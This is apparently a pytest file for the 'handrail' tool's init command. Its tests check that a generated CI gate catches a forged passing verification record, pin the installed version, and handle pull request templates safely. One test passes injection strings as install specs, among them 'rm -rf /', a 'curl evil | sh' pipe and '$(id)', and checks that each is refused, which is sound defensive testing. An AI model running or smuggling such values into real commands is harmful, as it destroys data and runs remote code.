"""`init --with-tooling`: a CI gate nobody can pass by writing a file, pinned to its version,
one pull request template, and a ledger that stays out of the way in diffs."""

from __future__ import annotations

import datetime as dt
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from review_helpers import ADA, commit_all, explain, git, mark, new_repo, run, verify

from handrail import __version__
from handrail.review.tooling import SECTION_MARK, add_tooling, existing_pr_templates
from handrail.workflow.init import InitError
from handrail.workspace import Workspace

TASK = "abcdef"
SPEC = "Given two integers, return their sum. It must never raise and follow the style of calc.py."
BODY = "def add(a, b):\n    return a - b\n"
TEST = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"


def _ci(ws: Workspace) -> dict[str, object]:
    data = yaml.safe_load((ws.root / ".github/workflows/handrail.yml").read_text())
    assert isinstance(data, dict)
    return data


def _step(ci: dict[str, object], name: str) -> dict[str, str]:
    jobs = ci["jobs"]
    assert isinstance(jobs, dict)
    (step,) = [s for s in jobs["check"]["steps"] if s.get("name") == name]
    assert isinstance(step, dict)
    return step


def _forged_repo(tmp_path: Path) -> tuple[Workspace, str]:
    """A buggy block whose test fails, with a hand-written "passed" run and an explanation."""
    ws = new_repo(tmp_path)
    command = f"{sys.executable} -m pytest -q -p no:cacheprovider"
    ws.workflow_path.write_text(
        'extends = "default"\n\n[workflow]\nowner = "Ada Tester"\nreviewed = 2026-11-01\n\n'
        f"[verification]\ncommand = {command!r}\ntimeout_s = 60\n".replace("'", '"'),
    )
    (ws.tasks_dir / f"{TASK}.toml").write_text(
        f'id = "{TASK}"\nspec = "{SPEC}"\ncontext = []\n', encoding="utf-8"
    )
    block = f"{TASK}.1"
    (ws.root / "calc.py").write_text(f"# handrail:begin {block}\n{BODY}# handrail:end {block}\n")
    (ws.root / "test_calc.py").write_text(TEST)
    now = dt.datetime.now(dt.UTC)
    mark(ws, block, "calc.py", BODY, at=now, author=ADA)
    verify(ws, {block: BODY}, at=now, passed=True)
    explain(ws, block, BODY, at=now, author=ADA)
    result = run(ws.root, "init", "--with-tooling")
    assert result.exit_code == 0, result.output
    commit_all(ws.root, "a generated add() with a forged passing run")
    return ws, block


def _run_step(
    ws: Workspace, step: dict[str, str], tmp_path: Path, approvals: str = ""
) -> tuple[int, str]:
    """Run a workflow step's script with bash as the runner would, `handrail` on PATH."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    shim = bin_dir / "handrail"
    shim.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m handrail "$@"\n')
    shim.chmod(0o755)
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir(exist_ok=True)
    (runner_temp / "approvals").write_text(approvals)
    head = git(ws.root, "rev-parse", "HEAD").strip()
    script = step["run"].replace("${{ github.event.pull_request.head.sha || github.sha }}", head)
    assert "${{" not in script
    env = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "RUNNER_TEMP": str(runner_temp),
        "XDG_STATE_HOME": str(tmp_path / "state"),
    }
    done = subprocess.run(
        ["bash", "-c", script], cwd=ws.root, env=env, capture_output=True, text=True
    )
    return done.returncode, done.stdout + done.stderr


def test_the_generated_ci_gate_fails_a_forged_passing_record(tmp_path: Path) -> None:
    ws, block = _forged_repo(tmp_path)
    # The committed record fools a gate that believes the ledger...
    trusting = run(ws.root, "check", "--format", "json")
    assert "HR302" not in trusting.output and "HR300" not in trusting.output
    # ...but not the gate the generated CI workflow runs, exactly as it runs it.
    gate = _step(_ci(ws), "Gate")
    code, output = _run_step(ws, gate, tmp_path)
    assert code == 1, output
    assert "HR302" in output and block in output
    # The same command in-process, to see what it found.
    head = git(ws.root, "rev-parse", "HEAD").strip()
    argv = shlex.split(
        gate["run"]
        .split("$(")[0]
        .replace('"${{ github.event.pull_request.head.sha || github.sha }}"', head)
    )
    assert argv[0] == "handrail"
    ci = run(ws.root, *argv[1:])
    assert ci.exit_code == 1, ci.output
    assert "HR302" in ci.output and block in ci.output


def test_the_ci_workflow_installs_the_version_that_wrote_it(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    assert run(ws.root, "init", "--with-tooling").exit_code == 0
    install = _step(_ci(ws), "Install Handrail")["run"]
    assert shlex.split(install) == ["python", "-m", "pip", "install", f"handrail=={__version__}"]


def test_init_install_names_what_ci_installs(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    spec = "git+https://example.com/team/handrail@v0.1.0"
    assert run(ws.root, "init", "--with-tooling", "--install", spec).exit_code == 0
    install = _step(_ci(ws), "Install Handrail")["run"]
    assert shlex.split(install)[-1] == spec


@pytest.mark.parametrize("spec", ["", "handrail\nrm -rf /", "x' ; curl evil | sh '", "$(id)"])
def test_an_install_spec_that_could_break_the_workflow_is_refused(
    tmp_path: Path, spec: str
) -> None:
    ws = new_repo(tmp_path)
    with pytest.raises(InitError, match="--install"):
        add_tooling(ws, ["ci"], install=spec)
    assert not (ws.root / ".github").exists()


def test_install_without_tooling_is_a_usage_error(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    result = run(ws.root, "init", "--install", "handrail==9")
    assert result.exit_code == 2
    assert "--with-tooling" in result.output


@pytest.mark.parametrize(
    "existing",
    [
        ".github/PULL_REQUEST_TEMPLATE.md",
        "docs/pull_request_template.md",
        "PULL_REQUEST_TEMPLATE.md",
        ".github/PULL_REQUEST_TEMPLATE/feature.md",
        ".gitlab/merge_request_templates/Default.md",
    ],
)
def test_an_existing_pr_template_gets_the_section_appended_once(
    tmp_path: Path, existing: str
) -> None:
    ws = new_repo(tmp_path)
    path = ws.root / existing
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("## Our checklist\n\n- [ ] tests\n")
    result = run(ws.root, "init", "--with-tooling", "--json")
    assert result.exit_code == 0, result.output
    assert not (ws.root / ".github/pull_request_template.md").exists()
    text = path.read_text()
    assert text.startswith("## Our checklist\n\n- [ ] tests\n\n")
    assert text.count(SECTION_MARK) == 1
    assert "I can explain every line" in text
    assert existing in result.output
    again = run(ws.root, "init", "--with-tooling")
    assert again.exit_code == 0
    assert path.read_text() == text


def test_a_template_behind_a_symlink_is_left_alone(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    outside = tmp_path / "outside.md"
    outside.write_text("theirs\n")
    (ws.root / ".github").mkdir()
    (ws.root / ".github/pull_request_template.md").symlink_to(outside)
    assert existing_pr_templates(ws) == []
    with pytest.raises(InitError, match="outside the workspace"):
        add_tooling(ws, ["pr-template"])
    assert outside.read_text() == "theirs\n"


def test_no_template_creates_one(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    result = add_tooling(ws, ["pr-template"])
    assert result.created == [".github/pull_request_template.md"]
    assert SECTION_MARK in (ws.root / ".github/pull_request_template.md").read_text()


def test_the_ledger_is_marked_generated_for_diff_views(tmp_path: Path) -> None:
    ws = new_repo(tmp_path)
    (ws.ledger_dir / "01ABC.json").write_text("{}\n")
    attrs = git(
        ws.root,
        "check-attr",
        "linguist-generated",
        "gitlab-generated",
        "--",
        ".handrail/ledger/01ABC.json",
        ".handrail/workflow.toml",
    )
    assert ".handrail/ledger/01ABC.json: linguist-generated: true" in attrs
    assert ".handrail/ledger/01ABC.json: gitlab-generated: true" in attrs
    assert ".handrail/workflow.toml: linguist-generated: unspecified" in attrs
